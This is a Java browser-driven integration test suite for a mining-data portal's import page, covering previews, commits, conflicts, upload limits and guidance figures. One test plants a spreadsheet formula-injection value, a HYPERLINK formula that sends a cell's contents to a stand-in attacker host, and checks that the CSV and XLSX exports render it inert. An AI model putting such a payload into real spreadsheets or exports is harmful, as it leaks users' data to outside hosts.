package org.minewatch.interfaces.web;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.JsonObject;
import java.net.URL;
import java.text.NumberFormat;
import java.util.Locale;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.minewatch.interfaces.PortalDeployment;
import org.minewatch.interfaces.rest.ApiClient;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;

/**
 * A data steward's import in a real browser: a release of a company not yet known, pasted as text, previewed
 * (its mine shown as new), refused while the new mine is not accepted, then committed; and a release with a
 * changed figure, shown as a conflict with the stored value.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class ImportIT {

    @Deployment(testable = false)
    static WebArchive portal() {
        return PortalDeployment.asBuilt();
    }

    @ArquillianResource
    private URL base;

    private WebDriver browser;

    @AfterEach
    void closeBrowser() {
        if (browser != null) {
            Browser.finish(browser);
        }
    }

    /** A release as published, from the domain's test resources (shared/releases). */
    private static String release(String name) throws Exception {
        try (InputStream in = ImportIT.class.getResourceAsStream("/releases/" + name)) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private void openImport() {
        Browser.signIn(browser, base, "admin", "minewatch");
        Browser.waiting(browser).until(ExpectedConditions.elementToBeClickable(By.id("navImport"))).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:text")));
    }

    private void paste(String text) {
        Browser.paste(browser, By.id("import:text"), text);
    }

    /** What is stored now, as the page prints it: another test of the suite may have restated it. */
    private String storedCaylloma2012Q1Silver() throws Exception {
        JsonObject production = ApiClient.as(base, "admin", "minewatch").getArray("/api/observations?mine=Caylloma&period=2012-Q1")
                .getValuesAs(JsonObject.class).stream()
                .filter(o -> o.getString("measure").equals("production") && o.getString("metal").equals("AG")).findFirst().orElseThrow();
        return NumberFormat.getIntegerInstance(Locale.ENGLISH).format(production.getJsonNumber("value").longValue());
    }

    private List<String> fates() {
        return browser.findElements(By.cssSelector("#import\\:figures tbody .mw-fate")).stream().map(WebElement::getText).toList();
    }

    @Test
    void an_admin_imports_a_new_companys_release_through_preview_and_commit() throws Exception {
        browser = Browser.start("en");
        openImport();
        // the page offers no company of its own: the demo's Fortuna imports are in the history, yet the field is empty
        assertThat(browser.findElement(By.id("import:company")).getAttribute("value")).isEmpty();
        browser.findElement(By.id("import:sourceName")).sendKeys("Alexco Q3 2011 production release");
        paste(release("alexco_2011Q3.txt"));
        browser.findElement(By.id("import:preview")).click();

        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:figures")));
        // the issuer comes from the text, and it is not the stored company
        assertThat(browser.findElement(By.id("issuer")).getText()).contains("Issuer named in the text: Alexco Resource Corp.");
        assertThat(browser.findElement(By.id("import:companyFate")).getText()).isEqualTo("New company: Alexco Resource Corp.");
        assertThat(browser.findElement(By.id("import:result")).getText()).doesNotContain("Fortuna");
        assertThat(browser.findElement(By.id("import:countFigures")).getText()).isEqualTo("40 figures read");
        assertThat(browser.findElement(By.id("import:countNewMines")).getText()).isEqualTo("1 new mine");
        assertThat(fates()).isNotEmpty().containsOnly("new mine");
        Browser.screenshot(browser, "import-preview");

        // sorting the preview by a column keeps the preview: its rows, reordered (a sort once ended in the error page)
        String firstPeriod = firstCell(1);
        browser.findElement(By.cssSelector("#import\\:figures th[aria-label*='Period']")).click();
        Browser.waitForAjax(browser);
        browser.findElement(By.cssSelector("#import\\:figures th[aria-label*='Period']")).click();
        Browser.waitForAjax(browser);
        assertThat(browser.findElement(By.id("import:countFigures")).getText()).isEqualTo("40 figures read");
        assertThat(firstCell(1)).isNotEqualTo(firstPeriod);
        browser.findElement(By.cssSelector("#import\\:figures th[aria-label*='Mine']")).click();
        Browser.waitForAjax(browser);
        assertThat(fates()).hasSize(25).containsOnly("new mine");

        // committing without accepting the new mine is refused, and nothing is stored
        browser.findElement(By.id("import:commit")).click();
        WebElement refusal = Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#import\\:messages .ui-messages-error")));
        assertThat(refusal.getText()).contains("Nothing imported").contains("Bellekeno");

        // the mines listed before the commit (the list a node keeps per data version, which the commit must renew)
        assertThat(ApiClient.as(base, "admin", "minewatch").getArray("/api/mines").getValuesAs(JsonObject.class).stream()
                .map(m -> m.getString("name")).toList()).isNotEmpty().doesNotContain("Bellekeno");
        browser.findElement(By.cssSelector("#import\\:createMines .ui-chkbox-box")).click();
        browser.findElement(By.id("import:commit")).click();
        WebElement done = Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#import\\:messages .ui-messages-info")));
        assertThat(done.getText()).contains("40 figures added");
        assertThat(browser.findElement(By.id("import:history")).getText()).contains("Alexco Q3 2011 production release").contains("admin");

        // stored under the company the text names, not under the one stored before
        JsonObject bellekeno = ApiClient.as(base, "admin", "minewatch").getArray("/api/mines").getValuesAs(JsonObject.class).stream()
                .filter(m -> m.getString("name").equals("Bellekeno")).findFirst().orElseThrow();
        assertThat(bellekeno.getString("company")).isEqualTo("Alexco Resource Corp.");

        // the new mine has its dashboard, with the release's figures
        browser.get(base + "dashboard.xhtml");
        // the other mines are written when the menu is first opened, not with the page (a portfolio's hundreds of mines): the
        // page holds the chosen one alone
        assertThat(browser.findElements(By.cssSelector("#dashboard\\:mine_input option"))).hasSize(1);
        Browser.choose(browser, "dashboard:mine", "Bellekeno");
        Browser.waiting(browser).until(ExpectedConditions.textToBe(By.id("dashboard:heading"), "Bellekeno · 2011-Q3"));
        assertThat(browser.findElement(By.id("dashboard:kpis")).getText()).contains("21,532");
    }

    /** The text of a column's cell in the preview table's first row. */
    private String firstCell(int column) {
        return browser.findElement(By.cssSelector("#import\\:figures tbody tr:first-child")).findElements(By.tagName("td")).get(column).getText();
    }

    /** The guidance table's rows as the page prints them: subject, metal, amount, fate. */
    private List<String> guidanceRows() {
        return browser.findElements(By.cssSelector("#import\\:guidance tbody tr")).stream()
                .map(r -> r.findElements(By.tagName("td")).stream().limit(4).map(WebElement::getText).collect(java.util.stream.Collectors.joining(" | ")))
                .toList();
    }

    /**
     * A mine named like a spreadsheet formula (any import may create one) is exported as text: the figures CSV writes
     * it behind an apostrophe, so that Excel or LibreOffice do not evaluate it; the XLSX holds it as a string cell.
     */
    @Test
    void a_mine_named_like_a_formula_is_exported_as_text_not_as_a_formula() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")";
        String csvLine = "\"" + formula.replace("\"", "\"\"") + "\",2031-Q1,tonnes_milled,,1000,t";
        java.net.http.HttpResponse<String> imported = ApiClient.as(base, "admin", "minewatch").send("POST",
                "/api/imports?createMines=true&company=Fortuna%20Silver%20Mines&source=formula%20test", "text/csv",
                "mine,period,measure,metal,value,unit\n" + csvLine + "\n");
        assertThat(imported.statusCode()).as(imported.body()).isEqualTo(201);

        browser = Browser.start("en");
        Browser.signIn(browser, base, "admin", "minewatch");
        browser.get(base + "figures.xhtml");
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("figures:table")));
        Browser.guardAjax(browser, By.cssSelector("#figures\\:table tbody"), () -> Browser.choose(browser, "figures:period", "2031-Q1"));

        java.nio.file.Files.deleteIfExists(Browser.DOWNLOADS.resolve("production-figures.csv"));
        browser.findElement(By.id("figures:exportCsv")).click();
        String csv = Browser.downloaded(browser, "production-figures.csv");
        assertThat(csv.lines().skip(1)).singleElement().asString()
                .startsWith("\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"click\"\")\",\"2031-Q1\"");

        Browser.Download xlsx = Browser.submitForDownload(browser, "figures", "figures:exportXlsx");
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx.content()))) {
            var cell = workbook.getSheetAt(0).getRow(1).getCell(0);
            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo(formula);
        }
    }

    @Test
    void a_file_over_the_upload_limit_is_refused_with_the_too_large_message_and_the_page_stays() throws Exception {
        // 3 MB of release-like lines, over the 2 MB an upload may have
        java.nio.file.Path large = java.nio.file.Files.createTempFile(Browser.DOWNLOADS.toAbsolutePath().getParent(), "large-release", ".txt");
        String line = "Caylloma Tonnes milled 116,364 Silver grade 177 g/t recovery 80.78% production 536,426 oz\n";
        java.nio.file.Files.writeString(large, line.repeat(3_000_000 / line.length() + 1));
        try {
            browser = Browser.start("en");
            openImport();
            browser.findElement(By.id("import:file_input")).sendKeys(large.toString());
            WebElement message = Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(
                    By.xpath("//*[contains(text(), 'The file is larger than 2 MB')]")));
            assertThat(message.isDisplayed()).isTrue();
            // the page is still there, with nothing of the file in it
            assertThat(browser.findElement(By.id("import:text")).getAttribute("value")).isEmpty();
            assertThat(browser.getPageSource()).doesNotContain("Something went wrong");
        } finally {
            java.nio.file.Files.deleteIfExists(large);
        }
    }

    @Test
    void a_data_steward_gives_the_period_a_story_does_not_print_and_the_preview_reads_it() throws Exception {
        // in Spanish: a story of "the September quarter" with no year; a period written wrongly is refused in the page's words
        browser = Browser.start("es");
        openImport();
        paste("PERTH - Kestrel Minerals Limited on Friday reported that its Osprey gold mine had produced 14,943 oz of gold in the September quarter.\n");
        browser.findElement(By.id("import:period")).sendKeys("T3-16");
        browser.findElement(By.id("import:preview")).click();
        WebElement refusal = Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#import\\:messages .ui-messages-error")));
        assertThat(refusal.getText()).contains("Periodo mal escrito", "T3-16");

        browser.findElement(By.id("import:period")).clear();
        browser.findElement(By.id("import:period")).sendKeys("2016-Q3");
        browser.findElement(By.id("import:preview")).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:figures")));
        assertThat(firstCell(0)).isEqualTo("Osprey");
        assertThat(firstCell(1)).isEqualTo("2016-Q3");
        assertThat(browser.findElements(By.cssSelector(".mw-import-warning")).stream().map(WebElement::getText).toList())
                .anySatisfy(w -> assertThat(w).contains("Leído como un informe de 2016-Q3"));
    }

    @Test
    void the_preview_shows_every_alert_the_commit_raises_told_apart_from_those_already_raised() throws Exception {
        // a new mine's quarter of a year ago: the commit raises its later quarters as overdue, which the preview once left out
        java.time.LocalDate yearAgo = java.time.LocalDate.now().minusMonths(12);
        String quarter = yearAgo.getYear() + "-Q" + ((yearAgo.getMonthValue() + 2) / 3);
        browser = Browser.start("en");
        openImport();
        browser.findElement(By.id("import:company")).sendKeys("Late Filing Mining");
        Browser.choose(browser, "import:format", "CSV (observations)");
        paste("mine,period,measure,metal,value,unit\nLate Mine," + quarter + ",tonnes_milled,,50000,t\n");
        browser.findElement(By.id("import:preview")).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:findings")));
        List<String> promised = browser.findElements(By.cssSelector("#import\\:findings tbody tr")).stream()
                .filter(r -> Browser.cell(r, 0).equals("New alert")).map(r -> Browser.cell(r, 3)).toList();
        assertThat(promised).isNotEmpty().anyMatch(m -> m.startsWith("No figures for "));

        browser.findElement(By.cssSelector("#import\\:createMines .ui-chkbox-box")).click();
        browser.findElement(By.id("import:commit")).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#import\\:messages .ui-messages-info")));
        List<String> raised = ApiClient.as(base, "admin", "minewatch").getArray("/api/alerts?mine=" + java.net.URLEncoder.encode("Late Mine", StandardCharsets.UTF_8))
                .getValuesAs(JsonObject.class).stream().map(a -> a.getString("message")).toList();
        assertThat(raised).containsExactlyInAnyOrderElementsOf(promised);
    }

    @Test
    void guidance_a_release_states_is_previewed_as_guidance_and_stored_when_chosen() throws Exception {
        // a year no other test reads and without guidance yet, drawn anew each run (stored versions stay)
        ApiClient admin = ApiClient.as(base, "admin", "minewatch");
        // 2070 to 2099: ImportApiIT draws from 2040 to 2069 and withdraws its year's guidance, which the list of guidance in
        // force does not show (a shared draw once failed here: "Differs from the version in force (in force: withdrawn ...)")
        int drawn = 2070 + new java.util.Random().nextInt(30);
        while (!admin.getArray("/api/guidance?year=" + drawn).isEmpty()) {
            drawn = 2070 + new java.util.Random().nextInt(30);
        }
        String outlook = "June 1, 2032 - Fortuna Silver Mines Inc. (NYSE: FSM) (TSX: FVI) provides its outlook.\n"
                + "The Company expects to produce between 6.0 and 6.5 million ounces of silver in " + drawn + ".\n";
        browser = Browser.start("en");
        openImport();
        paste(outlook);
        browser.findElement(By.id("import:preview")).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:guidance")));
        assertThat(browser.findElement(By.id("import:countFigures")).getText()).isEqualTo("0 figures read");
        assertThat(guidanceRows()).containsExactly("Fortuna Silver Mines " + drawn + " | Ag | 6,000,000 – 6,500,000 oz | New guidance");
        assertThat(browser.findElement(By.id("import:guidance")).getText()).contains("expects to produce between 6.0 and 6.5 million ounces of silver");
        Browser.screenshot(browser, "import-guidance");

        browser.findElement(By.cssSelector("#import\\:storeGuidance .ui-chkbox-box")).click();
        browser.findElement(By.id("import:commit")).click();
        WebElement done = Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#import\\:messages .ui-messages-info")));
        assertThat(done.getText()).contains("Guidance versions stored: 1");
        assertThat(browser.findElement(By.id("import:history")).getText()).contains("0 added, 0 replaced, 0 unchanged; guidance versions: 1");

        // the same release again: its guidance is the version in force now
        paste(outlook);
        browser.findElement(By.id("import:preview")).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:guidance")));
        assertThat(guidanceRows()).containsExactly("Fortuna Silver Mines " + drawn + " | Ag | 6,000,000 – 6,500,000 oz | Same as the version in force");
    }

    @Test
    void a_changed_figure_shows_as_a_conflict_and_is_replaced_only_when_asked() throws Exception {
        browser = Browser.start("en");
        openImport();
        // Fortuna's Q1 2012 release with Caylloma's silver production restated
        paste(release("fortuna_2012Q1.txt").replace("484,226", "484,262"));
        browser.findElement(By.id("import:preview")).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:figures")));
        assertThat(browser.findElement(By.id("import:countConflicts")).getText()).isEqualTo("1 differs from stored");
        assertThat(fates()).contains("already stored");
        WebElement conflict = browser.findElement(By.cssSelector("#import\\:figures tbody tr.mw-fate-conflict"));
        assertThat(conflict.getText()).contains("Caylloma").contains("484,262").contains(storedCaylloma2012Q1Silver());

        browser.findElement(By.id("import:discard")).click();
        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("import:text")));
        assertThat(browser.findElements(By.id("import:figures"))).isEmpty();
    }
}
